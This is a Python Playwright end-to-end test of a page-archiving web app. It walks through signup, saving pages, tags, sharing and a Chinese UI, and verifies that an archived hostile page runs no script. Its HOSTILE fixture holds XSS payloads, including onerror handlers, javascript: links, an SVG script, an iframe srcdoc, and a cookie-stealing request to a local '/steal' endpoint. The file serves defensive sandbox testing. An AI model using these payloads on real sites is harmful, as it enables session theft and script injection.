"""A person's whole journey through the web UI in Chromium, with screenshots of each page.

Sign up, save pages from the fixture server, watch them become ready without reloading,
tag and filter, read them, open the archived copy of a hostile page (which must achieve
nothing), rename and merge tags, bulk-tag, share a link and view it logged out, and
switch the UI to Chinese. A GBK page's title and text must survive everywhere.
"""

from __future__ import annotations

import gzip
import re

import pytest
from playwright.sync_api import expect

from snapshelf.library.models import Link, Tag
from tests.e2e.conftest import PASSWORD, screenshot
from tests.paths import CORPORA
from tests.webserver import Reply

pytestmark = pytest.mark.django_db(transaction=True)

MDN = CORPORA / "mdn-learning-area-pages"
ARTICLE = "/mdn/css/styling-text/web-fonts/web-font-finished.html"
GBK = CORPORA / "cx-extractor-163-gbk"

# Every trick a hostile page has for running script; any success leaves a trace the
# test looks for: a dialog, a request to /api/ or /steal, or a data-pwned attribute.
HOSTILE = """<!doctype html><html><head><title>Quiet page</title>
<script>alert('script'); document.documentElement.dataset.pwned = 'script';
fetch('/api/links').catch(() => {});
new Image().src = '{steal}?c=' + encodeURIComponent(document.cookie);</script>
<meta http-equiv="refresh" content="0; url=javascript:alert('refresh')">
</head><body onload="alert('onload'); document.body.dataset.pwned = 'onload'">
<article><h1>Quiet page</h1>
<p>This page looks like an ordinary article about gardening and tomatoes in summer.</p>
<p>Tomatoes want sun, water in the morning, and a stake to climb along as they grow.</p>
<img src="/missing.png" onerror="alert('onerror'); fetch('/api/x')">
<a href="javascript:alert('link')" id="jslink">a link</a>
<svg><script>alert('svg')</script></svg>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
</article></body></html>"""


def gbk_page() -> tuple[bytes, str]:
    raw = gzip.decompress((GBK / "RawHtml" / "1.html.gz").read_bytes())
    text = (GBK / "Text" / "1.txt").read_bytes().decode("gb18030")
    first = next(line.strip() for line in text.splitlines() if len(line.strip()) > 10)
    return raw, first[:10]


def add(page, url: str, tags: str = "") -> Link:
    """Save through the add box; the new row appears at the top without navigation.

    The test reads the database only once capture is over: the in-memory test database
    is shared with the server and worker threads and would report "table is locked".
    """
    rows = page.locator("#link-list > li.link-row")
    before = rows.count()
    page.locator("#add-form input[name=url]").fill(url)
    page.locator("#add-form input[name=tags]").fill(tags)
    page.locator("#add-form input[name=url]").press("Enter")
    expect(rows).to_have_count(before + 1)
    expect(rows.first).to_contain_text(url)
    return Link(pk=int(rows.first.get_attribute("id").removeprefix("link-")))


def wait_ready(page, link: Link) -> Link:
    """The row turns from a live status into the captured title, without a reload."""
    row = page.locator(f"#link-{link.pk}")
    expect(row.locator(".status.live")).to_have_count(0, timeout=60_000)
    link = Link.objects.get(pk=link.pk)
    snap = link.latest_snapshot
    assert snap.status == "done", snap.error
    expect(row.locator(".title")).to_have_text(snap.title)
    return link


def test_journey(page, browser, worker, fixture_server, settings):
    settings.SNAPSHELF_OPEN_SIGNUP = True
    base = page.base_url
    fixture_server.mount("/mdn/", MDN)
    raw, gbk_words = gbk_page()
    fixture_server.route("/gbk", lambda req: Reply(200, {"Content-Type": "text/html"}, raw))
    steal = fixture_server.url("/steal")
    fixture_server.route("/hostile", lambda req: Reply.html(HOSTILE.replace("{steal}", steal)))

    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    api_calls: list[str] = []
    page.on("request", lambda r: "/api/" in r.url and api_calls.append(r.url))

    # -- sign up ---------------------------------------------------------------------
    page.goto(base + "/accounts/login/")
    screenshot(page, "login")
    page.get_by_role("link", name="Create an account").click()
    page.fill("input[name=username]", "mei")
    page.fill("input[name=nickname]", "mei")
    page.fill("input[name=password1]", PASSWORD)
    page.fill("input[name=password2]", PASSWORD)
    screenshot(page, "signup")
    page.locator("main button[type=submit]").click()
    page.wait_for_url(base + "/")
    expect(page.locator("header.top .who")).to_have_text("mei")

    # -- save three pages; each becomes ready without a reload ----------------------
    page_url_before = page.url
    article = wait_ready(page, add(page, fixture_server.url(ARTICLE), "css, fonts"))
    gbk = wait_ready(page, add(page, fixture_server.url("/gbk"), "新闻"))
    hostile = wait_ready(page, add(page, fixture_server.url("/hostile"), "garden"))
    assert page.url == page_url_before
    gbk_title = gbk.latest_snapshot.title
    assert re.search(r"[\u4e00-\u9fff]", gbk_title), gbk_title
    expect(page.locator(f"#link-{gbk.pk} .title")).to_have_text(gbk_title)
    screenshot(page, "library")

    # -- filter by tag (the sidebar learnt the new tags without a reload) -------------
    page.locator(".tag-list").get_by_role("link", name="css").click()
    expect(page.locator("#link-list > li.link-row")).to_have_count(1)
    expect(page.locator(f"#link-{article.pk}")).to_be_visible()

    # -- read: reader view and archived page of the article ---------------------------
    page.goto(base + f"/links/{article.pk}/")
    expect(page.locator("article.reader")).to_contain_text(article.latest_snapshot.text[:40])
    screenshot(page, "link-reader")
    page.goto(base + f"/links/{article.pk}/?tab=archive")
    frame = page.frame_locator("iframe.archive")
    first_line = article.latest_snapshot.text.strip().splitlines()[0][:25]
    expect(frame.locator("body")).to_contain_text(first_line)
    screenshot(page, "link-archive")

    # -- the GBK page reads correctly in the reader and the archived page -------------
    page.goto(base + f"/links/{gbk.pk}/")
    expect(page.locator(".link-head h1")).to_have_text(gbk_title)
    expect(page.locator("article.reader")).to_contain_text(gbk_words)
    page.goto(base + f"/links/{gbk.pk}/?tab=archive")
    expect(page.frame_locator("iframe.archive").locator("body")).to_contain_text(gbk_words)

    # -- the hostile page's archived copy runs nothing ---------------------------------
    page.goto(base + f"/links/{hostile.pk}/?tab=archive")
    hostile_frame = page.frame_locator("iframe.archive")
    expect(hostile_frame.locator("body")).to_contain_text("Tomatoes want sun")
    hostile_frame.locator("#jslink").click()
    page.wait_for_timeout(1500)
    assert dialogs == []
    assert api_calls == []
    assert not [p for p in fixture_server.paths() if p.startswith("/steal")]
    assert hostile_frame.locator("html").get_attribute("data-pwned") is None
    assert hostile_frame.locator("body").get_attribute("data-pwned") is None
    assert page.url.startswith(base + f"/links/{hostile.pk}/")

    # -- tags: rename and merge on the tags page ---------------------------------------
    page.goto(base + "/tags/")
    screenshot(page, "tags")
    fonts = Tag.objects.get(owner=article.owner, name="fonts")
    page.locator(f"details.rename:has(#rename-{fonts.pk}) summary").click()
    page.locator(f"#rename-{fonts.pk}").fill("typography")
    page.locator(f"#rename-{fonts.pk}").press("Enter")
    expect(page.locator(".messages")).to_be_visible()
    assert set(article.tags.values_list("name", flat=True)) == {"css", "typography"}
    css = Tag.objects.get(owner=article.owner, name="css")
    garden = Tag.objects.get(owner=article.owner, name="garden")
    page.locator(f"#pick-{css.pk}").check()
    page.locator(f"#pick-{garden.pk}").check()
    page.locator("#merge-into").fill("web")
    page.locator("form#merge-form button[type=submit]").click()
    expect(page.locator(".messages")).to_be_visible()
    assert set(article.tags.values_list("name", flat=True)) == {"web", "typography"}
    assert set(hostile.tags.values_list("name", flat=True)) == {"web"}
    assert not Tag.objects.filter(owner=article.owner, name__in=["css", "garden"]).exists()

    # -- bulk-tag every link from the library -----------------------------------------
    page.goto(base + "/")
    page.locator("#select-all").check()
    page.locator("#bulk-action").select_option("add_tags")
    page.locator("#bulk-tags").fill("saved-2026")
    page.get_by_role("button", name="Apply to selected").click()
    expect(page.locator(".messages")).to_contain_text("3")
    assert Link.objects.filter(owner=article.owner, tags__name="saved-2026").count() == 3

    # -- share: make the article public and view it logged out ---------------------------
    page.goto(base + f"/links/{article.pk}/")
    page.locator("details.edit-panel summary").click()
    page.locator("form.edit-form select[name=visibility]").select_option("public")
    page.locator("form.edit-form button[type=submit]").click()
    expect(page.locator(".messages")).to_be_visible()
    article.refresh_from_db()
    assert article.visibility == "public"
    visitor = browser.new_context(locale="en-US")
    try:
        vpage = visitor.new_page()
        vpage.goto(base + "/u/mei/")
        expect(vpage.locator("main")).to_contain_text(article.latest_snapshot.title)
        expect(vpage.locator("main")).not_to_contain_text(gbk_title)  # private stays private
        screenshot(vpage, "public-profile")
        vpage.goto(base + f"/u/mei/{article.pk}/")
        expect(vpage.locator("article.reader")).to_contain_text(article.latest_snapshot.text[:40])
        screenshot(vpage, "public-link")
        assert vpage.goto(base + f"/u/mei/{gbk.pk}/").status == 404
        assert vpage.goto(base + f"/links/{article.pk}/").url.startswith(base + "/accounts/login/")
    finally:
        visitor.close()

    # -- settings, then switch the UI to Chinese ----------------------------------------
    page.goto(base + "/settings/")
    screenshot(page, "settings")
    page.locator("#lang-select").select_option("zh-hans")
    page.wait_for_load_state()
    expect(page.locator("html")).to_have_attribute("lang", "zh-hans")
    expect(page.locator("header.top nav.primary")).to_contain_text("标签")
    page.goto(base + "/")
    expect(page.locator("#add-form")).to_contain_text("保存")
    expect(page.locator(f"#link-{gbk.pk} .title")).to_have_text(gbk_title)
    screenshot(page, "library-zh")

    # -- phone-sized screens -------------------------------------------------------------
    page.set_viewport_size({"width": 390, "height": 844})
    screenshot(page, "library-zh-phone")
    page.goto(base + f"/links/{gbk.pk}/")
    screenshot(page, "link-reader-zh-phone")
    assert dialogs == [] and api_calls == []
